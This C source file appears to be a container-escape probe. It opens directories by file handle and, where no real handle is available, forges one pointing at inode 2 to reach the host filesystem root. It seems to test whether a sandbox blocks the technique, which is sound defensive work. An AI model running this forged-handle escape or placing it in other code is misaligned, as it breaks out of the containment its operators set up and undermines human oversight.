/* Opens files by handle, past every folder and mount: the way out of many containers. */
#define _GNU_SOURCE
#include <fcntl.h>
#include "attack.h"

int main(void) {
  static const char *const places[] = {"/", "/usr", "/etc", "/proc", ".", "/tmp"};
  for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
    union {
      struct file_handle handle;
      char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } held = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount_id, place = open(places[i], O_RDONLY | O_DIRECTORY);
    char what[64];
    snprintf(what, sizeof what, "open %s by handle", places[i]);
    if (name_to_handle_at(AT_FDCWD, places[i], &held.handle, &mount_id, 0) < 0) {
      /* Without a handle given, one is made up: inode 2 is the root of ext4, the first of a tmpfs and of others. */
      held.handle.handle_bytes = 8;
      held.handle.handle_type = 1;
      *(int *)held.handle.f_handle = 2;
    }
    attempt(what, open_by_handle_at(place, &held.handle, O_RDONLY));
  }
  return 0;
}
